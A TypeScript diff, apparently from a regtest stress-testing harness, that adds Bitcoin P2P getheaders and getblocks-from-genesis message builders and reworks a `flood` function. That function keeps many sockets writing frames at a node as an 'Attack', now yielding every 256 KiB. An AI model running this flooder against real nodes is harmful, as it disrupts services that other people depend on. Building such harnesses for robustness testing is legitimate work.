@@ -34,11 +34,20 @@ export function unconnectingHeaders(): Buffer {
 
 /** getheaders from genesis (regtest): the node answers with up to 2,000 headers. */
 export function getheadersFromGenesis(genesisHash: Uint8Array): Buffer {
+  return fromGenesis('getheaders', genesisHash);
+}
+
+/** getblocks from genesis: the node answers with an inv of up to 500 blocks. */
+export function getblocksFromGenesis(genesisHash: Uint8Array): Buffer {
+  return fromGenesis('getblocks', genesisHash);
+}
+
+function fromGenesis(command: string, genesisHash: Uint8Array): Buffer {
   const payload = Buffer.alloc(4 + 1 + 32 + 32);
   payload.writeUInt32LE(70016, 0);
   payload[4] = 1;
   Buffer.from(genesisHash).copy(payload, 5);
-  return frame('getheaders', payload);
+  return frame(command, payload);
 }
 
 /** getdata for `hashes` (wire order) as MSG_WITNESS_BLOCK items, repeated to `count` items. */
@@ -66,6 +75,9 @@ export interface FloodOptions {
   noHandshake?: boolean;
 }
 
+/** What one flooding socket writes before letting its event loop turn. */
+const TURN_BYTES = 256 * 1024;
+
 /** Keeps `connections` sockets flooding `frames` at the node until stopped. */
 export function flood(options: FloodOptions): Attack {
   let stopped = false;
@@ -86,14 +98,19 @@ export function flood(options: FloodOptions): Attack {
     });
     if (options.noRead) socket.pause();
     else socket.on('data', () => {});
+    // Writes until the socket pushes back, or a turn's worth went out: a node
+    // that reads as fast as we write never pushes back, and a loop that never
+    // yields would starve this process (its other sockets, and the canary).
     const pump = () => {
-      while (!stopped && !socket.destroyed) {
+      for (let bytes = 0; bytes < TURN_BYTES; bytes += chunk.length) {
+        if (stopped || socket.destroyed) return;
         sent += options.frames.length;
         if (!socket.write(chunk)) {
           socket.once('drain', pump);
           return;
         }
       }
+      setImmediate(pump);
     };
     socket.on('connect', () => {
       if (!options.noHandshake) socket.write(Buffer.concat([version(), VERACK]));
